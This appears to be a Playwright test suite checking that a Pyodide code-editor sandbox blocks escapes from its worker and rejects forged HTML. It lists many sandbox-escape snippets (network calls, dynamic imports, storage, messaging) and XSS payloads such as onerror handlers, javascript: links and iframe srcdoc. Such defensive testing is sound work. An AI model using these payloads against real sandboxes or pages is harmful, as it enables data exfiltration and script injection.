"""Edited code that means no good: none of its ways out of the worker leads anywhere.

What each tries is written in Python, as a reader would. All of them are also tried where nothing
confines the code, to show that they are ways out.
"""

from collections.abc import Iterator
from itertools import batched
from textwrap import dedent, indent
from typing import NamedTuple

import pytest
from playwright.sync_api import Browser, BrowserContext, Route, expect

from calc.core.wording import wording
from overrides.serve import Server
from tests.browser.conftest import Visit
from tests.browser.test_policy import META, Elsewhere
from tests.browser.test_workshop import SEARCH, Workshop

TO_ANOTHER_HOST = {
    # What a browser has for it. `url` is an address that nobody should be asked for.
    "fetch": "return js.fetch(url)",
    "request": """
        request = js.XMLHttpRequest.new()
        request.open("GET", url, False)
        request.send()
        return request""",
    "socket": "return js.WebSocket.new(url.replace('http', 'ws'))",
    "events": "return js.EventSource.new(url)",
    "transport": "return js.WebTransport.new(url.replace('http', 'https'))",
    "font": "return js.FontFace.new('escape', f'url({url})').load()",
    "worker": """
        text = js.Blob.new(to_js([f"import {url!r}"]), type="text/javascript")
        return js.Worker.new(js.URL.createObjectURL(text), type="module")""",
    "shared_worker": "return js.SharedWorker.new(url)",
    "scripts": "return js.importScripts(url) or True",
    "stream": "return js.WebAssembly.compileStreaming(js.fetch(url))",
    "beacon": "return js.navigator.sendBeacon(url)",
    "service_worker": "return js.navigator.serviceWorker.register(url)",
    # A module from there, imported by a program made of text.
    "evaluated": "return js.eval(f'import({url!r})')",
    "run_js": "return run_js(f'import({url!r})')",
    "function": "return js.Object.constructor(f'return import({url!r})')()",
    "async_function": """
        return js.WebAssembly.compile.constructor.prototype.constructor(
            f"return import({url!r})")()""",
    "reflected": "return js.Reflect.construct(js.Function, to_js([f'return import({url!r})']))()",
    "timer": "js.setTimeout(f'import({url!r})')",
    "program": """
        module = pyodide_js._module
        return module._emscripten_run_script(module.stringToNewUTF8(f"import({url!r})")) or True""",
    # What Pyodide has for it.
    "pyfetch": "return pyfetch(url).send(None)",
    "open_url": "return open_url(url)",
    "lazy_file": """
        node = pyodide_js.FS.createLazyFile("/", "lazy", url, True, False)
        return node.contents.length >= 0""",
    "package": "pyodide_js.loadPackage(url.replace('escape.js', 'escape-1-py3-none-any.whl'))",
    "python_socket": "return socket.create_connection((urlsplit(url).hostname, port), 1)",
    "urllib": "return urllib.request.urlopen(url, timeout=1)",
    # What we have for it: the worker itself, told to start from somewhere else.
    "order": """
        return js.dispatchEvent(js.MessageEvent.new("message", data=order(url)))""",
    "handler": "return js.onmessage(js.MessageEvent.new('message', data=order(url))) or True",
    # A way that is deeper in the chain of prototypes, or held by anything that can be reached.
    "prototype": """
        scope = js.globalThis
        while scope:
            if own := js.Reflect.getOwnPropertyDescriptor(scope, "fetch"):
                return own.value.call(js.globalThis, url)
            scope = js.Reflect.getPrototypeOf(scope)""",
    "anything": "return search(url)",
}

TO_WHAT_IS_KEPT = {
    "cache_emptied": "return js.caches.delete('escape')",  # before there is one
    "cache": "return js.caches.open('escape')",
    "database": "return js.indexedDB.open('escape')",
    "database_of_files": """
        system = pyodide_js.FS
        system.mkdir("/escape")
        system.mount(system.filesystems.IDBFS, to_js({}), "/escape")
        system.syncfs(False, create_proxy(id))""",
    "files": "return js.navigator.storage.getDirectory()",
    "file_handle": "return js.FileSystemFileHandle",
    "old_files": "return js.webkitRequestFileSystemSync(0, 1)",
    "buckets": "return js.navigator.storageBuckets.open('escape')",
    "persisted": "return js.navigator.storage.persisted()",
    "cookies": "return js.cookieStore.set('escape', '1')",
    "cookie": "js.document.cookie = 'escape=1'",
    "local": "return js.localStorage.setItem('escape', '1') or True",
    "session": "return js.sessionStorage.setItem('escape', '1') or True",
    "address_of_blob": "return js.URL.createObjectURL(js.Blob.new(to_js(['escape'])))",
}

TO_OTHERS = {
    "broadcast": "return js.BroadcastChannel.new('escape').postMessage('escape') or True",
    "message": "return js.postMessage('escape') or True",
    "channel": """
        channel = js.MessageChannel.new()
        return js.postMessage("escape", to_js([channel.port1])) or True""",
    "lock": "return js.navigator.locks.request('escape', create_proxy(id))",
    "error": "return js.reportError('escape') or True",
    "notice": "return js.Notification",
    "end": "return js.close",
}

AT_ONCE = 5
"""So many are tried by one program, which has ten seconds on however busy a machine."""

WAYS_OUT = TO_ANOTHER_HOST | TO_WHAT_IS_KEPT | TO_OTHERS

OPEN = {
    "fetch", "request", "socket", "events", "font", "worker", "stream", "evaluated", "run_js",
    "function", "async_function", "reflected", "program", "pyfetch", "open_url", "lazy_file",
    "python_socket", "urllib", "order", "handler", "prototype", "anything", "cache",
    "cache_emptied", "database", "files", "file_handle", "persisted", "address_of_blob",
}  # fmt: skip
"""Those that lead out of a worker that nothing confines, in every browser."""

BEFORE = """
import statistics  # with which all of Python's library is there
import gc, socket, sys, time, urllib.request
from urllib.parse import urlsplit

import js, pyodide_js
from pyodide.code import run_js
from pyodide.ffi import JsProxy, create_proxy, to_js
from pyodide.http import open_url, pyfetch

def order(url):
    file = {"path": "", "size": 1, "sent": 1, "sha256": ""}
    files = dict.fromkeys(("loader", "engine", "wasm", "library", "calc"), file)
    place = {"folder": url, "from": "library", "runtime": {"files": files}}
    return to_js({"place": place}, dict_converter=js.Object.fromEntries)

def search(url):
    # Follow all that can be reached from what a program is given, and from what Python holds: a
    # second's work, of which a busy machine does what it can in four.
    until = time.monotonic() + 4
    held = [each for each in gc.get_objects() if isinstance(each, JsProxy)]
    waiting, seen = [js.globalThis, pyodide_js._api, pyodide_js._module, *held], js.Set.new()
    while waiting and time.monotonic() < until:
        here = waiting.pop(0)
        try:
            if seen.has(here) or hasattr(here, "BYTES_PER_ELEMENT"):
                continue
            seen.add(here)
            for key in js.Reflect.ownKeys(here):
                # A prototype of Pyodide's own falls down when it is looked at.
                if not isinstance(key, str) or key == "prototype":
                    continue
                own = js.Reflect.getOwnPropertyDescriptor(here, key)
                found = getattr(own, "value", None)
                if isinstance(found, JsProxy):
                    waiting.append(found)
                    if js.Reflect.get(found, "name") in ("fetch", "postMessage", "bound fetch"):
                        found.call(js.globalThis, url)
                        return found
            if here is js.globalThis or here in scopes:
                scopes.append(js.Reflect.getPrototypeOf(here))
                waiting.append(scopes[-1])
        except Exception:
            pass

scopes = []
"""

TRY = """
def escape(url):
{body}

try:
    if escape(f"http://{name}.localhost:{{port}}/escape.js") not in (None, False):
        print("{name}", end=" ")
except BaseException:
    pass
"""

AFTER = """
until = time.monotonic() + 0.5
while time.monotonic() < until:  # in which what is under way goes on
    pass
"""

UNCONFINED = """
export const LONGEST = Infinity;
export const startConfined = (script) => new Worker(script, { type: "module" });
export const hear = (said) => said;
export const isHeld = () => true;
export const silence = () => {};
export const confine = () => [];
"""
"""In place of the script that confines."""

KEPT = """async () => [
    ...(await caches.keys()).map((name) => `cache ${name}`),
    ...(await indexedDB.databases?.() ?? []).map(({ name }) => `database ${name}`),
    ...await Array.fromAsync((await navigator.storage.getDirectory()).keys()),
    ...Object.keys(localStorage), ...Object.keys(sessionStorage), document.cookie,
].filter((name) => /escape/i.test(name))"""
"""Run in a page: what of an escape a browser has kept."""


def write(ways: dict[str, str], port: int) -> str:
    """Return a program that tries them all, and answers in the end."""
    parts = [BEFORE, f"port = {port}"]
    for name, code in ways.items():
        body = indent(dedent(code).strip("\n"), "    ")
        parts.append(TRY.format(name=name, body=body))
    return "\n".join([*parts, AFTER, SEARCH])


class Tried(NamedTuple):
    """What came of programs: what led somewhere, who was asked, and what was kept."""

    led: set[str]
    asked: set[str]
    kept: list[str]


def attempt(visit: Visit, elsewhere: Elsewhere, ways: dict[str, str]) -> Tried:
    elsewhere.asked.clear()
    led = set()
    shop = Workshop(visit).open()
    for some in batched(ways.items(), AT_ONCE, strict=False):
        shop.run(write(dict(some), elsewhere.server_port))
        expect(shop.status).to_contain_text("reproduced")  # it came to its end
        printed = shop.find(".ec-outcome > pre")
        led |= set(printed.inner_text().split() if printed.count() else [])
    shop.page_answers()
    return Tried(led, set(elsewhere.asked), shop.page.evaluate(KEPT))


@pytest.fixture(scope="module")
def elsewhere(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Elsewhere]:
    with Elsewhere(tmp_path_factory.mktemp("elsewhere")) as running:
        yield running


@pytest.fixture(scope="module")
def tried(browser: Browser, server: Server, elsewhere: Elsewhere) -> Tried:
    """All of it, tried on the page as it is."""
    with browser.new_context() as context:
        return attempt(Visit(context.new_page(), server.url), elsewhere, WAYS_OUT)


@pytest.mark.parametrize("name", WAYS_OUT)
def test_no_way_leads_out(name: str, tried: Tried) -> None:
    assert name not in tried.led
    assert name not in tried.asked


def test_all_ways_together_reach_nobody_and_leave_nothing(tried: Tried) -> None:
    assert tried == Tried(set(), set(), [])


def test_but_for_what_confines_it_they_would_lead_out(
    context: BrowserContext, server: Server, elsewhere: Elsewhere
) -> None:
    context.route("**/future/search/", without_policy)
    context.route(
        "**/python/confined.js",
        lambda route: route.fulfill(content_type="text/javascript", body=UNCONFINED),
    )
    visit = Visit(context.new_page(), server.url)
    free = attempt(visit, elsewhere, TO_ANOTHER_HOST | TO_WHAT_IS_KEPT)
    assert OPEN - free.led - free.asked == set()
    assert {"fetch", "request"} <= free.asked  # which these programs themselves wait for
    assert free.kept


def without_policy(route: Route) -> None:
    """Send a page without its policy."""
    response = route.fetch()
    route.fulfill(response=response, body=META.sub("", response.text()))


def test_without_a_policy_nothing_of_it_is_run(context: BrowserContext, server: Server) -> None:
    context.route("**/future/search/", without_policy)
    shop = Workshop(Visit(context.new_page(), server.url)).open()
    shop.run(SEARCH)
    why = wording("en")["state", "failed_unconfined"]
    expect(shop.status).to_have_text(shop.words["failed"].replace("{why}", why))


# ---- What it hands to the page

FORGE = """
import calc.view.workshop as view
from calc.core.html import Html

view.join = lambda parts: Html({html})
"""
"""Has Python send HTML of the reader's own, in the place of what we would write."""

HTML = {
    "script": "'<script>top.hit = 1</script>'",
    "module": '\'<script type="module" src="URL"></script>\'',
    "image": '\'<img src="URL" onerror="top.hit = 1">\'',
    "handler": "'<p onclick=\"top.hit = 1\">press</p>'",
    "style": "'<style>@import \"URL\"; body { display: none }</style>'",
    "styled": "'<p style=\"position: fixed; inset: 0\">over it all</p>'",
    "sheet": '\'<link rel="stylesheet" href="URL">\'',
    "frame": "'<iframe src=\"URL\"></iframe>'",
    "document": "'<iframe srcdoc=\"<script>top.hit = 1</script>\"></iframe>'",
    "object": "'<object data=\"URL\"></object>'",
    "form": '\'<form action="URL"><input name="password"></form>\'',
    "address": "'<a href=\"javascript:top.hit = 1\">press</a>'",
    "link": "'<a href=\"URL\">press</a>'",
    "refresh": '\'<meta http-equiv="refresh" content="0; url=URL">\'',
    "base": "'<base href=\"URL\">'",
    "button": '\'<button type="button" data-action="reset">press</button>\'',
    "preset": "'<p data-preset=\"{}\">press</p>'",
    "part": "'<p data-part=\"answer\">forged</p>'",
    "id": "'<p id=\"__config\">{}</p>'",
    "name": "'<p name=\"body\">clobbered</p>'",
    "element": "'<energy-calculator name=\"search\"></energy-calculator>'",
    "class": "'<p class=\"md-overlay\">over it all</p>'",
    "drawing": "'<svg><use href=\"URL\"></use></svg>'",
    "shadow": "'<div><template shadowrootmode=\"open\"><p>x</p></template></div>'",
    "comment": "'<!--><img src=\"URL\">-->'",
    "unclosed": "'<p>a<p>b'",
    "crossed": "'</div></article><p>b'",
    "inherited": "'<constructor>x</constructor>'",
    "inherited_attribute": "'<p constructor=\"x\">x</p>'",
    "deep": "'<div>' * 9_000 + '</div>' * 9_000",
    "long": "'x' * 1_000_000",
    "longer": "'x' * 30_000_000",  # within ten seconds, on a busy machine too
}
"""In Python, each with an address that nobody should be asked for."""

SAID = """
import js, json

json.JSONEncoder.encode = lambda *given: {said}
"""
"""Has Python send something else for an answer."""

ANSWERS = {
    "nothing": ("None", "broken"),
    "an_object": ("js.Object.new()", "broken"),
    "too_much": ("'x' * 100_000_000", "broken"),
    "no_json": ("'<p>'", "unreadable"),
    "null": ("'null'", "unreadable"),
    "a_list": ("'[]'", "unreadable"),
    "nested": ("'[' * 200_000", "unreadable"),
    "no_sentence": ("""'{"sentence": {}, "line": null, "html": ""}'""", "unreadable"),
    "long_sentence": (
        """'{"sentence": "%s", "line": null, "html": ""}' % ("x" * 9_000)""",
        "unreadable",
    ),
    "line_before": ("""'{"sentence": "", "line": -1, "html": ""}'""", "unreadable"),
    "line_of_text": ("""'{"sentence": "", "line": "<p>", "html": ""}'""", "unreadable"),
    "no_html": ("""'{"sentence": "", "line": null, "html": ["<p>"]}'""", "unreadable"),
    "no_module": (
        """'{"sentence": "", "line": null, "html": "", "missing": 1}'""",
        "unreadable",
    ),
}
"""In Python, each with the page's own sentence on it."""

MARKUP = """() => {
    const page = document.documentElement.cloneNode(true);
    page.querySelector('energy-workshop .ec-editor').remove();
    return [page.outerHTML, window.hit];
}"""
"""Run in a page: all of it but the editor, and whether a script has run that should not."""


def is_kept_out(shop: Workshop, elsewhere: Elsewhere, code: str, sentence: str) -> None:
    """Run code, and check that the page says a sentence of its own and is otherwise as it was."""
    elsewhere.asked.clear()
    before = shop.page.evaluate(MARKUP)
    shop.run(code)
    expect(shop.status).to_have_text(shop.words[sentence])
    expect(shop.find(".ec-outcome")).to_be_empty()
    assert shop.page.evaluate(MARKUP) == before
    assert elsewhere.asked == set()


@pytest.fixture(scope="module")
def shop(browser: Browser, server: Server) -> Iterator[Workshop]:
    """One editor for all that is forged."""
    with browser.new_context() as context:
        yield Workshop(Visit(context.new_page(), server.url)).open()


@pytest.mark.parametrize("name", HTML)
def test_html_that_is_not_ours_is_not_shown(
    name: str, shop: Workshop, elsewhere: Elsewhere
) -> None:
    forged = HTML[name].replace("URL", elsewhere.at(name))
    said = "broken" if name.startswith("long") else "unreadable"
    is_kept_out(shop, elsewhere, FORGE.format(html=forged) + SEARCH, said)


@pytest.mark.parametrize("name", ANSWERS)
def test_an_answer_that_is_none_is_not_shown(
    name: str, shop: Workshop, elsewhere: Elsewhere
) -> None:
    said, sentence = ANSWERS[name]
    is_kept_out(shop, elsewhere, SAID.format(said=said) + SEARCH, sentence)


def test_what_is_like_ours_is_shown_as_text(shop: Workshop) -> None:
    shop.run(
        FORGE.format(html="'<p>&lt;img src=x onerror=&quot;top.hit = 1&quot;&gt;</p>'")
        + "view._summary = lambda *given: '<b>bold</b>'\n"
        + SEARCH
    )
    expect(shop.status).to_have_text("<b>bold</b>")
    expect(shop.find(".ec-outcome > *")).to_have_text('<img src=x onerror="top.hit = 1">')
    shop.page_answers()
